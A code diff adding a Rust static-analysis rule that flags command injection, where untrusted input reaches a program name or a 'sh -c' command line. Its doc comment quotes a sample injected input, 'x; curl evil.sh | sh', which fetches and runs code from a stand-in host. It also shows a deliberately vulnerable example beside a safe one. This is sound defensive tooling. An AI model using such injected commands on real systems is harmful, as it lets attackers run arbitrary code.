@@ -1,0 +1,65 @@
+use crate::rules::prelude::*;
+
+declare_rule! {
+    /// ### What it does
+    /// Finds untrusted input — request data, command-line arguments,
+    /// environment variables, files, stdin — that reaches the program run by
+    /// `std::process::Command::new` (or tokio's), or the command line of a
+    /// shell started with `sh -c` / `cmd /C`. The path from source to sink
+    /// is followed through variables, `format!`, method chains, and helper
+    /// functions in other modules and files.
+    ///
+    /// ### Why is this bad?
+    /// A shell interprets `;`, `|`, `$(…)` and quotes: input like
+    /// `x; curl evil.sh | sh` runs the attacker's commands with the
+    /// service's rights. Choosing the program from input is as bad.
+    /// Arguments passed with `.arg(…)` to a fixed, non-shell program are not
+    /// interpreted by a shell and are not reported.
+    ///
+    /// ### Example
+    /// ```rust
+    /// use std::process::Command;
+    ///
+    /// fn main() {
+    ///     let archive = std::env::args().nth(1).unwrap_or_default();
+    ///     let _ = Command::new("sh").arg("-c").arg(format!("tar czf {archive} /data")).status();
+    /// }
+    /// ```
+    ///
+    /// ### Use instead
+    /// ```rust
+    /// use std::process::Command;
+    ///
+    /// fn main() {
+    ///     let archive = std::env::args().nth(1).unwrap_or_default();
+    ///     let _ = Command::new("tar").arg("czf").arg(&archive).arg("/data").status();
+    /// }
+    /// ```
+    ///
+    /// ### References
+    /// - CWE-78: Improper Neutralization of Special Elements used in an OS Command
+    /// - CWE-77: Command Injection
+    /// - OWASP Top 10 2021 A03: Injection
+    pub CommandInjection {
+        id: "command-injection",
+        name: "CommandInjection",
+        summary: "untrusted input reaches a program name or a shell command line",
+        severity: Critical,
+        precision: High,
+        cwe: [78, 77],
+        owasp: [A03],
+        tags: ["injection", "taint"],
+        options: [crate::taint::sources_option("remote, network, command-line, environment, stdin, file")],
+    }
+}
+
+impl Rule for CommandInjection {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+
+    /// Checked by the data-flow engine (`src/taint/`).
+    fn interests(&self) -> Interests {
+        Interests::default()
+    }
+}
